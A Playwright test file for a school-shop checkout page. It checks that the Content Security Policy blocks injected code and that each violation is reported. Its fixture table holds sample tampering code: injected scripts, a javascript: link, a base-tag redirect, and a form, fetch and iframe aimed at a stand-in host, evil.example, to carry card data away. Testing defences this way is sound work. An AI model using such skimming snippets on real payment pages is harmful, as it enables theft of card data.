import type { Page } from '@playwright/test';
import { aBuyer, aDeal, expect, goToCheckout, test } from '../support/shop';

const SCHOOL = 'Northlake Middle School';
const EVIL = 'https://evil.example';

/** What code that got into the page would try, and the directive that stops it. Each says `stolen` if it runs. */
const TAMPERINGS: Record<string, readonly [directive: string, code: (evil: string) => void]> = {
  'an inline script': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.stolen = true';
      document.body.append(script);
    },
  ],
  'a script from elsewhere': [
    'script-src-elem',
    (evil) => {
      const script = document.createElement('script');
      script.src = `${evil}/skim.js`;
      document.body.append(script);
    },
  ],
  'an import map': [
    'script-src-elem',
    () => {
      const map = document.createElement('script');
      map.type = 'importmap';
      map.textContent = '{"imports":{"react":"/other.js"}}';
      document.head.append(map);
    },
  ],
  'a handler in an attribute': [
    'script-src-attr',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'globalThis.stolen = true');
      document.body.append(button);
      button.click();
    },
  ],
  'text as code': [
    'script-src',
    () => {
      // The test's own call may do what the page may not.
      setTimeout(() => {
        try {
          globalThis.eval('globalThis.stolen = true');
        } catch {
          // As it should be.
        }
      });
    },
  ],
  'a link that is code': [
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.setAttribute('href', ['javascript', 'globalThis.stolen = true'].join(':'));
      document.body.append(link);
      link.click();
    },
  ],
  'another base for addresses': [
    'base-uri',
    (evil) => {
      const base = document.createElement('base');
      base.href = evil;
      document.head.append(base);
    },
  ],
  'a form that sends elsewhere': [
    'form-action',
    (evil) => {
      const form = document.createElement('form');
      form.action = `${evil}/card`;
      document.body.append(form);
      form.submit();
    },
  ],
  'a frame over the card form': [
    'frame-src',
    (evil) => {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/card-form`;
      document.body.append(frame);
    },
  ],
  'a worker from text': [
    'worker-src',
    () => {
      const text = new Blob(['postMessage("stolen")'], { type: 'text/javascript' });
      const worker = new Worker(URL.createObjectURL(text));
      worker.addEventListener('error', (event) => event.preventDefault());
    },
  ],
  'a request that carries the card away': ['connect-src', (evil) => void fetch(`${evil}/card`, { method: 'POST' }).catch(() => undefined)],
  'a stylesheet from elsewhere': [
    'style-src-elem',
    (evil) => {
      const sheet = document.createElement('link');
      sheet.rel = 'stylesheet';
      sheet.href = `${evil}/read-card.css`;
      document.head.append(sheet);
    },
  ],
};

/** What the browser reported and the API took, until now. */
function reportsOf(page: Page): string[] {
  const taken: string[] = [];
  page.on('requestfinished', async (request) => {
    if (!request.url().endsWith('/api/policy-reports')) return;
    const { 'csp-report': report } = JSON.parse(request.postData() ?? '{}') as { 'csp-report': Record<string, string> };
    if ((await request.response())?.status() === 204) taken.push(report['effective-directive']!);
  });
  return taken;
}

test('code that got into the payment page is stopped and reported, whatever it tries', async ({ page, database, watch }) => {
  watch.expected.push(/Content Security Policy|blocked|ERR_|evil\.example/i);
  const reports = reportsOf(page);
  const asked: string[] = [];
  await page.route(`${EVIL}/**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const deal = await aDeal(database);
  await goToCheckout(page, deal.title, SCHOOL, aBuyer());
  expect(reports).toEqual([]);
  for (const [what, [directive, code]] of Object.entries(TAMPERINGS)) {
    const before = reports.length;
    await page.evaluate(code, EVIL);
    await expect.poll(() => reports.slice(before), { message: what, timeout: 60_000 }).toContain(directive);
  }
  expect(asked).toEqual([]);
  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
  expect(await page.evaluate(() => document.body.innerText)).toContain(deal.title);
});
